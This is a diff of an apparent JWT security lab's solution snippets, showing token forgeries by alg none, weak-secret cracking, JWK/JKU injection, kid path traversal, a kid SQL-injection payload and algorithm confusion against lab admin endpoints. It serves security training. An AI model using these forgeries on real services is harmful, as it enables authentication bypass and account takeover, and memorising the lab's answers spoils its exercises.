@@ -27,7 +27,7 @@ import jwt
 body = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
 bearer = {{"Authorization": f"Bearer {{head}}.{{body}}.{{signature}}"}}
 answer = lab.client.get("/svc/profile/admin", headers=bearer)
-lab.check_flag("unverified-signature", answer.json()["flag"])
+flag_unverified = answer.json()["flag"]\nlab.check_flag("unverified-signature", flag_unverified)
 ```"""
 
 ALG_NONE = f"""\
@@ -50,7 +50,7 @@ def b64json(value):
     auth = {{"Authorization": f"Bearer {{unsigned}}"}}
     answer = lab.client.get("/svc/widgets/admin", headers=auth)
     print(alg, answer.status_code)
-lab.check_flag("alg-none", answer.json()["flag"])
+flag_none = answer.json()["flag"]\nlab.check_flag("alg-none", flag_none)
 ```"""
 
 CRACK_STEPS = """\
@@ -88,7 +88,7 @@ forged = f"{head}.{b64(json.dumps(claims).encode())}"
 forged += "." + mac(word.encode(), forged)
 auth = {"Authorization": f"Bearer {forged}"}
 answer = lab.client.get("/svc/legacy/admin", headers=auth)
-lab.check_flag("weak-secret", answer.json()["flag"])
+flag_secret = answer.json()["flag"]\nlab.check_flag("weak-secret", flag_secret)
 ```"""
 
 JWK = f"""\
@@ -108,7 +108,7 @@ public_jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(attacker.public_key()
 forged = jwt.encode(claims, attacker, algorithm="RS256", headers=headers)
 auth = {{"Authorization": f"Bearer {{forged}}"}}
 answer = lab.client.get("/svc/partners/admin", headers=auth)
-lab.check_flag("jwk-injection", answer.json()["flag"])
+flag_jwk = answer.json()["flag"]\nlab.check_flag("jwk-injection", flag_jwk)
 ```"""
 
 JKU = f"""\
@@ -131,7 +131,7 @@ base = lab.attacker_server({{"/keys.json": {{"keys": [public_jwk]}}}})
 forged = jwt.encode(claims, attacker, algorithm="RS256", headers=headers)
 auth = {{"Authorization": f"Bearer {{forged}}"}}
 answer = lab.client.get("/svc/integrations/admin", headers=auth)
-lab.check_flag("jku-injection", answer.json()["flag"])
+flag_jku = answer.json()["flag"]\nlab.check_flag("jku-injection", flag_jku)
 ```"""
 
 KID_PATH = f"""\
@@ -148,7 +148,7 @@ robots = lab.client.get("/robots.txt").content
 forged = jwt.encode(claims, robots, algorithm="HS256", headers=headers)
 auth = {{"Authorization": f"Bearer {{forged}}"}}
 answer = lab.client.get("/svc/files/admin", headers=auth)
-lab.check_flag("kid-traversal", answer.json()["flag"])
+flag_traversal = answer.json()["flag"]\nlab.check_flag("kid-traversal", flag_traversal)
 ```"""
 
 KID_SQL = f"""\
@@ -164,7 +164,7 @@ headers = {{"kid": f"nothing' UNION SELECT '{{secret}}' --"}}
 {_LOGIN}forged = jwt.encode(claims, secret, algorithm="HS256", headers=headers)
 auth = {{"Authorization": f"Bearer {{forged}}"}}
 answer = lab.client.get("/svc/inventory/admin", headers=auth)
-lab.check_flag("kid-sqli", answer.json()["flag"])
+flag_sqli = answer.json()["flag"]\nlab.check_flag("kid-sqli", flag_sqli)
 ```"""
 
 CONFUSION = f"""\
@@ -195,7 +195,7 @@ signed = f"{{b64(json.dumps(header).encode())}}.{{b64(json.dumps(claims).encode(
 forged = f"{{signed}}.{{b64(hmac.new(pem, signed.encode(), hashlib.sha256).digest())}}"
 auth = {{"Authorization": f"Bearer {{forged}}"}}
 answer = lab.client.get("/svc/reports/admin", headers=auth)
-lab.check_flag("alg-confusion", answer.json()["flag"])
+flag_confusion = answer.json()["flag"]\nlab.check_flag("alg-confusion", flag_confusion)
 ```"""
 
 EXPIRED = """\
@@ -209,7 +209,7 @@ old = line.split("Bearer ")[1].rstrip('"')
 auth = {"Authorization": f"Bearer {old}"}
 answer = lab.client.get("/svc/archive/me", headers=auth)
 print(answer.status_code, answer.json()["sub"])
-lab.check_flag("expired", answer.json()["flag"])
+flag_expired = answer.json()["flag"]\nlab.check_flag("expired", flag_expired)
 ```"""
 
 AUDIENCE = """\
@@ -220,7 +220,7 @@ AUDIENCE = """\
 billing = lab.client.post("/billing/login", json=lab.users[0]).json()["access_token"]
 auth = {"Authorization": f"Bearer {billing}"}
 answer = lab.client.get("/svc/search/me", headers=auth)
-lab.check_flag("audience", answer.json()["flag"])
+flag_audience = answer.json()["flag"]\nlab.check_flag("audience", flag_audience)
 ```"""
 
 HINTS: dict[str, tuple[str, str, str]] = {
